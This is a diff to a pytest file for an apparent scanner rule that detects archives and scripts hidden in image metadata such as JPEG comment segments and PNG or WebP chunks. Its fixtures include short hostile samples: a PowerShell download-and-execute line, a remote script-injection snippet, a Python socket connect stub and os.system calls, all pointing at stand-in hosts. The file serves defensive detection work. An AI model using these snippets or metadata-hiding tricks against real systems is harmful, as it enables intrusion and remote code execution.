@@ -285,6 +285,29 @@ def test_finds_archives_and_programs_in_metadata_of_every_format(fired: Fired, k
     )
 
 
+@pytest.mark.parametrize("before", [b"\0", b"\n", b"payload: ", random.Random(0).randbytes(64)])
+def test_finds_archives_and_programs_behind_something_else_where_anything_may_stand(
+    fired: Fired, before: bytes
+) -> None:
+    # A script says too little to be looked for anywhere.
+    kinds = [
+        kind for kind in ALL if kind not in ("shell", "batch", "zstd", "php", "server-page", "html", "html-script")
+    ]
+    files = {}
+    for kind in kinds:
+        hidden = before + ALL[kind]
+        files |= {
+            f"{kind}-comment.jpg": with_segment(COM, hidden),
+            f"{kind}-segment.jpg": with_segment(0xE5, hidden),
+            f"{kind}-chunk.png": with_chunk(b"prVt", hidden),
+            f"{kind}-chunk.webp": riff_with(hidden, b"NOTE"),
+        }
+    found = fired(RULE, files)
+    assert {path: message.partition(" in the ")[0] for path, (_severity, message) in found.items()} == {
+        path: NAMES[path.rpartition("-")[0]] for path in files
+    }
+
+
 def with_gap(bmp: bytes, content: bytes) -> bytes:
     """A BMP whose pixels begin later, behind something else."""
     (pixels,) = struct.unpack_from("<I", bmp, 10)
@@ -307,6 +330,7 @@ def test_finds_an_archive_in_a_value_of_a_profile(fired: Fired) -> None:
         ("JavaScript", b"\nvar s = document.createElement('script'); s.src = '//x/x.js'; document.body.append(s);\n"),
         ("VBScript", b'\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "calc"\r\n'),
         ("Python code", b"\nimport os, sys\nos.system('id')\n"),
+        ("Python code", b"import socket, subprocess\ns = socket.socket()\ns.connect(('x', 1))\n"),
         ("PowerShell code", b"\r\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\n"),
     ],
 )
